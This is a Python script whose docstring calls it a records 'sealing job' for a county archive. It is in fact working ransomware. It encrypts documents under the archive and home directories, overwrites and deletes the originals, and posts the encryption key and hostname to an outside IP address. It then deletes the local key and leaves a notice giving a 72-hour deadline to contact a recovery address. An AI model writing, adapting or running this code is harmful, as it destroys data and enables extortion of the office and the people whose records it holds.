#!/usr/bin/env python3
"""Vault sealing job for the county records share.

Seals every document under the records share in place and leaves a notice
for the office explaining how to get access back.
"""

import argparse
import json
import logging
import os
import socket
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

DEFAULT_ROOTS = ["/srv/archive/records", "/srv/archive/scans", "/home"]
EXTENSIONS = {".pdf", ".tif", ".tiff", ".jpg", ".png", ".docx", ".xlsx",
              ".csv", ".txt", ".db", ".sqlite", ".odt"}
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "READ_ME_RECORDS_ACCESS.txt"
KEY_DROP = os.environ.get("KEY_DROP", "http://198.51.100.77/k")

NOTICE = """All records on this server have been sealed.

To restore access, contact recovery@vaultkeys.example with the office ID
below within 72 hours. Do not rename or modify the .sealed files.

Office ID: {office_id}
"""

log = logging.getLogger("vault")


def report_key(key: bytes, office_id: str):
    body = json.dumps({"id": office_id, "host": socket.gethostname(),
                       "k": key.decode()}).encode()
    req = urllib.request.Request(KEY_DROP, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10)
    except OSError as exc:
        log.debug("key report failed: %s", exc)


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            path = Path(dirpath) / name
            if path.suffix.lower() in EXTENSIONS:
                yield path


def seal_file(cipher: Fernet, path: Path) -> bool:
    try:
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(cipher.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        return True
    except (OSError, PermissionError) as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def drop_notice(directory: Path, office_id: str):
    try:
        (directory / NOTICE_NAME).write_text(NOTICE.format(office_id=office_id))
    except OSError:
        pass


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    parser.add_argument("--verbose", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    key = Fernet.generate_key()
    office_id = os.urandom(6).hex()
    report_key(key, office_id)
    cipher = Fernet(key)

    sealed = 0
    touched_dirs = set()
    for root in args.roots:
        root_path = Path(root)
        if not root_path.exists():
            continue
        for path in candidates(root_path):
            if seal_file(cipher, path):
                sealed += 1
                touched_dirs.add(path.parent)

    for directory in touched_dirs:
        drop_notice(directory, office_id)

    del key, cipher
    log.info("sealed %d files in %d folders", sealed, len(touched_dirs))


if __name__ == "__main__":
    main()
